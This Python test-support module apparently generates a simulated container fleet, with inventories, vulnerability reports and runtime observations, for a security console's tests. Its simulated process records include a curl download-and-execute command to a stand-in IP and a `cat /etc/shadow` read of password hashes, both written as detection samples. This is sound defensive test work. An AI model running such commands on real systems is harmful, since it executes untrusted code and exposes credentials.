"""A small fleet that looks like a real one: what the console's tests and its picture show."""

import random
from datetime import datetime, timedelta

import msgspec
from tests.support.attack import attack

from hullguard.model.content import LicenseUse, Malware, Misconfiguration, Secret
from hullguard.model.event import ContainerRef, ImageRef, Process
from hullguard.model.ids import derived_id
from hullguard.model.image import Layer, OperatingSystem, Target
from hullguard.model.incident import Observation
from hullguard.model.inventory import Inventory
from hullguard.model.node import Container, Heartbeat, HostFacts, Reason, SensorHealth, SensorState
from hullguard.model.package import Package, PackageType, Unknown
from hullguard.model.policy import Action, AppliedPolicies
from hullguard.model.report import (
    AdvisoryState,
    Cvss,
    FixStatus,
    Priority,
    ReportedPackage,
    ScanReport,
    Vulnerability,
    Why,
)
from hullguard.model.severity import Severity

NODES = ("prod-web-01", "prod-web-02", "prod-db-01", "edge-berlin-01", "edge-berlin-02", "build-runner-03")
SEVERITIES = (Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW, Severity.NEGLIGIBLE, Severity.UNKNOWN)

DEBIAN = OperatingSystem("debian", "12", "Debian GNU/Linux 12 (bookworm)")
ALPINE = OperatingSystem("alpine", "3.18", "Alpine Linux v3.18")

IMAGES: dict[str, tuple[OperatingSystem, tuple[int, ...]]] = {
    "registry.example/shop/checkout:2.14.0": (DEBIAN, (3, 9, 21, 12, 8, 1)),
    "registry.example/shop/catalogue:5.2.1": (DEBIAN, (1, 6, 14, 10, 6, 0)),
    "nginx:1.25.3": (DEBIAN, (0, 4, 11, 19, 7, 2)),
    "postgres:15.4": (DEBIAN, (1, 2, 9, 14, 11, 0)),
    "redis:7.2-alpine": (ALPINE, (0, 0, 2, 1, 0, 0)),
    "registry.example/platform/log-shipper:0.9": (ALPINE, (0, 1, 3, 2, 0, 0)),
    "python:3.11-slim": (DEBIAN, (0, 0, 4, 9, 5, 0)),
}
"""Name, system, and vulnerabilities from critical to unknown."""

_PACKAGES = (
    ("libssl3", "3.0.9-1", "openssl"),
    ("openssl", "3.0.9-1", "openssl"),
    ("libc6", "2.36-9+deb12u1", "glibc"),
    ("libxml2", "2.9.14+dfsg-1.2", "libxml2"),
    ("curl", "7.88.1-10+deb12u1", "curl"),
    ("libcurl4", "7.88.1-10+deb12u1", "curl"),
    ("zlib1g", "1:1.2.13.dfsg-1", "zlib"),
    ("libexpat1", "2.5.0-1", "expat"),
    ("perl-base", "5.36.0-7", "perl"),
    ("tar", "1.34+dfsg-1.2", "tar"),
    ("libgnutls30", "3.7.9-2", "gnutls28"),
    ("libsystemd0", "252.12-1~deb12u1", "systemd"),
)
_LISTED = {
    "libssl3": ("usr/lib/x86_64-linux-gnu/libcrypto.so.3", "usr/lib/x86_64-linux-gnu/libssl.so.3"),
    "openssl": ("usr/bin/openssl",),
    "libc6": ("usr/lib/x86_64-linux-gnu/libc.so.6",),
    "curl": ("usr/bin/curl",),
    "libcurl4": ("usr/lib/x86_64-linux-gnu/libcurl.so.4.8.0",),
    "tar": ("bin/tar",),
}
USED = ("/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/lib/x86_64-linux-gnu/libc.so.6", "/srv/app/bin/shop")
"""What was seen in containers of the first image; the last is no package's."""
_INSTRUCTIONS = (
    (
        "/bin/sh -c #(nop) ADD file:9a4f77dfaba7fd2aa78186e4ef0e7486ad55101cefc1fabbc1b385601bb38920 in / ",
        77_800_000,
        True,
    ),
    (
        "RUN /bin/sh -c apt-get update && apt-get install -y --no-install-recommends ca-certificates curl # buildkit",
        41_200_000,
        False,
    ),
    ("COPY requirements.txt /srv/ # buildkit", 2_100, False),
    ("RUN /bin/sh -c pip install --no-cache-dir -r /srv/requirements.txt # buildkit", 63_500_000, False),
    ("COPY app/ /srv/app/ # buildkit", 1_840_000, False),
)


def image_id(name: str) -> str:
    """A digest that is always the same for the same name."""
    return f"sha256:{derived_id('image', name)}{derived_id('image', name, 2)}"


def facts(name: str) -> HostFacts:
    number = NODES.index(name) + 1
    return HostFacts(
        name,
        "Debian GNU/Linux 12 (bookworm)",
        "6.1.0-13-amd64",
        "x86_64",
        8,
        33_500_000_000,
        (f"10.20.0.{number}",),
        "Docker 24.0.7",
        "boot",
    )


def heartbeat(applied: AppliedPolicies | None, *, degraded: bool = False) -> Heartbeat:
    """A healthy agent, or one whose sensor loses events."""
    sensor = SensorHealth(SensorState.ACTIVE)
    if degraded:
        reason = Reason("sensor.events-lost", "The kernel sensor lost events.", {"events": 1284})
        sensor = SensorHealth(SensorState.DEGRADED, (reason,), {"exec": 1284, "file_open": 31})
    return Heartbeat("0.1.0", sensor, runtime_reachable=True, applied=applied, spool_records=0)


def inventory(name: str) -> Inventory:
    """What an agent found in the image: system packages of the base, libraries of the layers above."""
    system = IMAGES[name][0]
    layers = tuple(
        Layer(
            f"sha256:{derived_id(name, position)}{derived_id(name, position, 2)}", size=size, created_by=by, base=base
        )
        for position, (by, size, base) in enumerate(_INSTRUCTIONS)
    )
    kind = PackageType.DEB if system is DEBIAN else PackageType.APK
    packages = [
        Package(
            f"pkg:{kind}/{system.id}/{package}@{version}?arch=amd64",
            kind,
            package,
            version,
            "Debian:12" if system is DEBIAN else "Alpine:v3.18",
            source,
            version,
            "amd64",
            layers[0 if position < 7 else 1].diff_id,
            ("var/lib/dpkg/status",),
        )
        for position, (package, version, source) in enumerate(_PACKAGES)
    ]
    python = [("django", "4.2.3"), ("requests", "2.31.0"), ("pillow", "9.5.0"), ("jinja2", "3.1.2")]
    packages += [
        Package(
            f"pkg:pypi/{package}@{version}",
            PackageType.PYPI,
            package,
            version,
            "PyPI",
            layer=layers[3].diff_id,
            locations=(f"usr/lib/python3/dist-packages/{package}",),
        )
        for package, version in python
    ]
    unknowns = (Unknown("usr/share/app/vendor.db", "The package database is encrypted and cannot be read."),)
    last = layers[-1].diff_id
    return Inventory(
        Target(name, "docker", image_id(name), platform="linux/amd64"),
        system,
        layers,
        tuple(packages),
        unknowns,
        loadable=_LISTED,
        secrets=(
            Secret("aws-access-key", "AWS access key", Severity.CRITICAL, "srv/app/.env", 3, "AWS_KEY=AKIA…", last),
            Secret("private-key", "Private key", Severity.HIGH, "root/.ssh/id_ed25519", 1, "-----BEGIN …", last, True),
        ),
        malware=(Malware("eicar", "EICAR test file", Severity.HIGH, "srv/app/sample.com", "27" * 32, last),),
        config=(
            Misconfiguration(
                "CIS-DI-0001",
                "The container runs as root",
                Severity.MEDIUM,
                "no USER is set, so it is root",
                "end the Dockerfile with USER and a user of its own",
            ),
        ),
    )


def report(name: str, built: datetime) -> ScanReport:
    """The inventory with vulnerabilities of the numbers given above."""
    taken = inventory(name)
    chance = random.Random(name)
    found = []
    for severity, count in zip(SEVERITIES, IMAGES[name][1], strict=True):
        for number in range(count):
            package = chance.choice(taken.packages)
            fixed = f"{package.version}+fix{number + 1}" if chance.random() < 0.6 else None
            year, serial = chance.randint(2021, 2026), chance.randint(1000, 59999)
            found.append(_vulnerability(f"CVE-{year}-{serial}", severity, package, fixed, chance))
    packages = tuple(map(ReportedPackage.of, taken.packages))
    advisories = AdvisoryState(built, ("Alpine:v3.18", "Debian:12", "PyPI"))
    return ScanReport(
        taken.target,
        taken.os,
        taken.layers,
        packages,
        tuple(found),
        taken.unknowns,
        advisories,
        complete=True,
        secrets=taken.secrets,
        malware=taken.malware,
        config=taken.config,
        licenses=(LicenseUse("MIT", "permissive", tuple(each.purl for each in taken.packages[-2:])),),
    )


def _vulnerability(
    name: str, severity: Severity, package: Package, fixed: str | None, chance: random.Random
) -> Vulnerability:
    serious = severity in {Severity.CRITICAL, Severity.HIGH}
    return Vulnerability(
        name,
        name,
        (),
        package.purl,
        package.version,
        fixed,
        FixStatus.FIXED if fixed else FixStatus.AFFECTED,
        severity,
        "debian",
        (Cvss("3.1", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", 9.8 if severity is Severity.CRITICAL else 7.5),)
        if serious
        else (),
        severity is Severity.CRITICAL and chance.random() < 0.5,
        round(chance.random() ** 4, 4),
        package.layer,
        Why("ecosystem-range", f"{package.version} is older than {fixed or 'any fixed version'}"),
        f"A flaw in {package.source_name or package.name} lets a remote attacker read memory beyond a buffer.",
        Priority(20 * severity.rank, (f"severity {severity}: {20 * severity.rank}",)),
    )


def containers(node: str) -> list[Container]:
    """Four to six containers, of which one has stopped."""
    position = NODES.index(node)
    names = list(IMAGES)
    chosen = [names[(position + step) % len(names)] for step in range(4 + position % 3)]
    return [
        Container(
            derived_id(node, name) + derived_id(node, name, 2),
            f"{name.rpartition('/')[2].partition(':')[0]}-{number + 1}",
            ImageRef(image_id(name), name),
            "exited" if number == 3 else "running",
            privileged=number == 2 and position == 0,
        )
        for number, name in enumerate(chosen)
    ]


def shell(node: str, at: datetime, number: int = 0) -> Observation:
    """Somebody came in with ``docker exec -it``."""
    return _observation(
        node,
        at,
        number,
        "container.terminal-shell",
        Severity.MEDIUM,
        "T1059",
        (
            Process(
                2817,
                1,
                "containerd-shim",
                "/usr/bin/containerd-shim-runc-v2",
                ("containerd-shim-runc-v2", "-namespace", "moby"),
                uid=0,
                started=at - timedelta(days=4),
                outside=True,
            ),
            Process(
                48211, 2817, "bash", "/usr/bin/bash", ("bash", "-l"), cwd="/srv", uid=0, gid=0, tty=True, started=at
            ),
        ),
        {"shell": "bash", "command": "bash -l"},
    )


def dropped(node: str, at: datetime, number: int = 0, *, stopped: bool = True) -> Observation:
    """A downloaded program started from a shell that a web server spawned; the policy kills it."""
    return _observation(
        node,
        at,
        number,
        "container.drop-and-execute",
        Severity.CRITICAL,
        "T1105",
        (
            Process(
                2817,
                1,
                "containerd-shim",
                "/usr/bin/containerd-shim-runc-v2",
                ("containerd-shim-runc-v2", "-namespace", "moby"),
                uid=0,
                started=at - timedelta(days=4),
                outside=True,
            ),
            Process(
                2901,
                2817,
                "gunicorn",
                "/usr/bin/python3.11",
                ("gunicorn", "app.wsgi", "--workers", "4"),
                cwd="/srv",
                uid=1000,
                started=at - timedelta(days=4),
            ),
            Process(
                51877,
                2901,
                "sh",
                "/bin/dash",
                ("sh", "-c", "curl -s http://203.0.113.7/x -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x"),
                cwd="/srv",
                uid=1000,
                started=at - timedelta(milliseconds=840),
            ),
            Process(51879, 51877, ".x", "/tmp/.x", ("/tmp/.x",), cwd="/srv", uid=1000, started=at),
        ),
        {"path": "/tmp/.x", "command": "/tmp/.x"},
        stopped=stopped,
    )


def read_shadow(node: str, at: datetime, number: int = 0) -> Observation:
    """A program read the password hashes."""
    return _observation(
        node,
        at,
        number,
        "file.read-sensitive",
        Severity.HIGH,
        "T1003.008",
        (
            Process(
                2901,
                2817,
                "gunicorn",
                "/usr/bin/python3.11",
                ("gunicorn", "app.wsgi"),
                vpid=1,
                uid=0,
                started=at - timedelta(days=2),
            ),
            Process(51901, 2901, "cat", "/usr/bin/cat", ("cat", "/etc/shadow"), cwd="/", uid=0, started=at),
        ),
        {"path": "/etc/shadow", "program": "/usr/bin/cat"},
    )


def _observation(
    node: str,
    at: datetime,
    number: int,
    rule: str,
    severity: Severity,
    technique: str,
    lineage: tuple[Process, ...],
    details: dict[str, str],
    *,
    stopped: bool = False,
) -> Observation:
    place = containers(node)[number % 3]
    return Observation(
        id=derived_id(node, rule, at.isoformat(), number),
        at=at,
        rule=rule,
        severity=severity,
        technique=technique,
        action=Action.KILL if stopped else Action.ALERT,
        stopped=stopped,
        container=ContainerRef(place.id, place.name),
        image=place.image,
        lineage=lineage,
        details=details,
    )


def week(now: datetime) -> list[tuple[str, Observation]]:
    """Seven days of observations, oldest first, with more at the end; five of them are one attack."""
    found: list[tuple[str, Observation]] = []
    for back, count in ((6, 2), (5, 1), (4, 3), (3, 2), (2, 4), (1, 5)):
        for number in range(count):
            node = NODES[(back + number) % 5]
            at = now - timedelta(days=back, minutes=37 * number)
            make = (shell, read_shadow, dropped)[(back + number) % 3]
            found.append((node, make(node, at, number)))
    found.append((NODES[4], shell(NODES[4], now - timedelta(minutes=95))))
    found.append((NODES[1], read_shadow(NODES[1], now - timedelta(minutes=41), 1)))
    place = containers(NODES[0])[1]
    for each in attack(now - timedelta(minutes=20), on=place.id):
        there = ContainerRef(place.id, place.name)
        found.append((NODES[0], msgspec.structs.replace(each, container=there, image=place.image)))
    found.append((NODES[0], dropped(NODES[0], now - timedelta(minutes=12))))
    return found
